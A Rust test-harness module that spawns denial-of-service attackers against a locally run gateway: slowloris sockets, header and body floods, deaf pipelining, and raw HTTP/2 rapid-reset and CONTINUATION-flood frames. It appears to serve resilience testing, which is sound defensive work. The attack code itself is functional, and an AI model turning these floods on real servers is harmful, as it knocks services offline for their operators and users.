//! Clients that mean harm, each for as long as its process lives.
//!
//! Must not know what is measured. The tests hold that the gateway bears them; these only go on.

use std::net::SocketAddr;
use std::time::Duration;

use futures_util::future::join_all;
use tokio::io::AsyncWriteExt as _;
use tokio::net::{TcpSocket, TcpStream};

/// What an attacker prints once its attack is under way.
pub(crate) const UNDER_WAY: &str = "under way";

/// The attackers' address.
const FROM: &str = "127.0.0.2:0";
/// Connections of a flood.
const FLOODS: usize = 4;
/// Sockets with half a request.
const SLOW_SOCKETS: usize = 10_000;
/// Connections that ask and do not read.
const DEAF_SOCKETS: usize = 50;
const TARGET: &str = "/api/v1/authorities";

/// One kind of attack.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Ten thousand sockets with half a request, a byte now and then.
    SlowSockets,
    /// Header lines without end.
    HeaderFlood,
    /// A body without end.
    EndlessBody,
    /// Requests without waiting for answers, which nobody reads.
    Pipelining,
    /// HTTP/2 streams that are opened and reset.
    ResetFlood,
    /// HTTP/2 headers that never end.
    ContinuationFlood,
}

impl Attack {
    pub(crate) const ALL: [Self; 6] = [
        Self::SlowSockets,
        Self::HeaderFlood,
        Self::EndlessBody,
        Self::Pipelining,
        Self::ResetFlood,
        Self::ContinuationFlood,
    ];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::SlowSockets => "10,000 slow sockets",
            Self::HeaderFlood => "header flood",
            Self::EndlessBody => "endless bodies",
            Self::Pipelining => "pipelining",
            Self::ResetFlood => "reset flood",
            Self::ContinuationFlood => "continuation flood",
        }
    }
}

/// Attacks until it is killed.
pub(crate) fn run(name: &str, to: SocketAddr) {
    let attack = Attack::ALL.into_iter().find(|attack| attack.name() == name).expect("an attack");
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build();
    runtime.expect("the system gives a runtime").block_on(async {
        match attack {
            Attack::SlowSockets => slow(to).await,
            Attack::Pipelining => pipelining(to).await,
            Attack::HeaderFlood => {
                let head = format!("GET {TARGET} HTTP/1.1\r\nHost: localhost\r\n");
                flood(to, head.into_bytes(), |_| b"X: y\r\n".repeat(1000)).await;
            }
            Attack::EndlessBody => {
                let head = "POST /language HTTP/1.1\r\nHost: localhost\r\nContent-Length: \
                            1000000000000\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n";
                flood(to, head.into(), |_| vec![b'x'; 16 * 1024]).await;
            }
            Attack::ResetFlood => flood(to, preface(), opened_and_reset).await,
            Attack::ContinuationFlood => flood(to, preface(), continuation).await,
        }
    });
}

async fn attacker(to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(FROM.parse().expect("an address"))?;
    socket.connect(to).await
}

/// Opens connections that write until the other end has had enough, again and again.
async fn flood(to: SocketAddr, start: Vec<u8>, more: impl Fn(u32) -> Vec<u8>) {
    println!("{UNDER_WAY}");
    let one = async || -> std::io::Result<()> {
        let mut stream = attacker(to).await?;
        stream.write_all(&start).await?;
        for number in 0.. {
            stream.write_all(&more(number)).await?;
        }
        Ok(())
    };
    join_all((0..FLOODS).map(async |_| {
        loop {
            // It is closed sooner or later; then the next one.
            let _had_enough = one().await;
            tokio::task::yield_now().await;
        }
    }))
    .await;
}

async fn slow(to: SocketAddr) {
    let mut sockets = Vec::new();
    for _ in 0..SLOW_SOCKETS {
        // As many as the system gives one process.
        let Ok(mut stream) = attacker(to).await else { break };
        let _closed = stream.write_all(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ").await;
        sockets.push(stream);
    }
    println!("{UNDER_WAY}");
    let mut pace = tokio::time::interval(Duration::from_millis(1));
    for turn in 0.. {
        let turn = turn % sockets.len();
        if sockets[turn].write_all(b"y").await.is_err()
            && let Ok(fresh) = attacker(to).await
        {
            sockets[turn] = fresh;
        }
        pace.tick().await;
    }
}

async fn pipelining(to: SocketAddr) {
    let requests = format!("GET {TARGET} HTTP/1.1\r\nHost: localhost\r\n\r\n").repeat(100);
    let mut deaf = Vec::new();
    for _ in 0..DEAF_SOCKETS {
        deaf.push(attacker(to).await.expect("the gateway listens"));
    }
    println!("{UNDER_WAY}");
    loop {
        for stream in &deaf {
            // Only as much as is taken at once: the other end stops reading.
            let _not_taken = stream.try_write(requests.as_bytes());
        }
        tokio::task::yield_now().await;
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn preface() -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(), &frame(4, 0, 0, &[])].concat()
}

/// A header block without compression: `:method GET`, `:scheme http`, `:authority`, `:path`.
fn block() -> Vec<u8> {
    let text = |index: u8, value: &str| {
        let length = u8::try_from(value.len()).expect("a short value");
        [&[index, length], value.as_bytes()].concat()
    };
    [vec![0x82, 0x86], text(0x01, "localhost"), text(0x04, TARGET)].concat()
}

fn opened_and_reset(number: u32) -> Vec<u8> {
    let stream = 2 * number + 1;
    [frame(1, 5, stream, &block()), frame(3, 0, stream, &8_u32.to_be_bytes())].concat()
}

fn continuation(number: u32) -> Vec<u8> {
    match number {
        0 => frame(1, 1, 1, &block()),
        _ => frame(9, 0, 1, &[&[0, 1, b'x', 100], [b'y'; 100].as_slice()].concat()),
    }
}
